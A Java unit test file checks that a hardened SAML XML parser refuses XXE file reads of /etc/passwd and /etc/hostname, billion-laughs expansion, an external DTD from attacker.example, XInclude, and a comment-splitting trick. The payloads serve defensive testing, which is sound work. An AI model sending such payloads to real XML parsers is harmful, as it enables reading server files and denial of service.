package nl.toegang.saml;

import nl.toegang.saml.xml.SecureXmlParser;
import org.junit.jupiter.api.Test;
import org.w3c.dom.Document;
import org.w3c.dom.Node;

import java.nio.charset.StandardCharsets;

import static nl.toegang.saml.SamlAssertions.assertRefused;
import static org.assertj.core.api.Assertions.assertThat;

/** DOCTYPE, XXE, billion laughs, size cap and comment handling of the hardened parser and the validator. */
class XmlParsingAttackTest {
    private final SecureXmlParser parser = new SecureXmlParser(4096);

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    @Test
    void xxeFileEntityIsRefused() {
        assertRefused(SamlReason.DOCTYPE_FORBIDDEN, () -> parser.parse(utf8(
                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>")));
    }

    @Test
    void billionLaughsIsRefused() {
        assertRefused(SamlReason.DOCTYPE_FORBIDDEN, () -> parser.parse(utf8("<?xml version=\"1.0\"?><!DOCTYPE lolz ["
                + "<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
                + "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]><lolz>&lol3;</lolz>")));
    }

    @Test
    void externalDtdParameterEntityIsRefused() {
        assertRefused(SamlReason.DOCTYPE_FORBIDDEN, () -> parser.parse(utf8(
                "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/evil.dtd\"> %p;]><r/>")));
    }

    @Test
    void doctypeInArtifactResponseIsRefusedByValidator() {
        String valid = new String(TestIdp.valid(), StandardCharsets.UTF_8);
        byte[] withDoctype = utf8("<!DOCTYPE soapenv:Envelope [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>" + valid);
        assertRefused(SamlReason.DOCTYPE_FORBIDDEN, () -> ArtifactResponseValidatorTest.validator(TestIdp.CLOCK,
                new InMemoryAssertionReplayCache(TestIdp.CLOCK, 10)).validate(withDoctype, TestIdp.expectation()));
    }

    @Test
    void xincludeIsNotProcessed() {
        Document doc = parser.parse(utf8("<r xmlns:xi=\"http://www.w3.org/2001/XInclude\">"
                + "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/></r>"));
        assertThat(doc.getDocumentElement().getFirstChild().getLocalName()).isEqualTo("include");
    }

    @Test
    void oversizedInputIsRefusedBeforeParsing() {
        assertRefused(SamlReason.INPUT_TOO_LARGE, () -> parser.parse(new byte[4097]));
    }

    @Test
    void malformedXmlIsRefused() {
        assertRefused(SamlReason.MALFORMED_XML, () -> parser.parse(utf8("<r><unclosed></r>")));
    }

    @Test
    void commentsStaySeparateCommentNodes() {
        Document doc = parser.parse(utf8("<n>a@b.nl<!---->.evil.nl</n>"));
        Node first = doc.getDocumentElement().getFirstChild();
        assertThat(first.getNodeValue()).isEqualTo("a@b.nl");
        assertThat(first.getNextSibling().getNodeType()).isEqualTo(Node.COMMENT_NODE);
    }
}
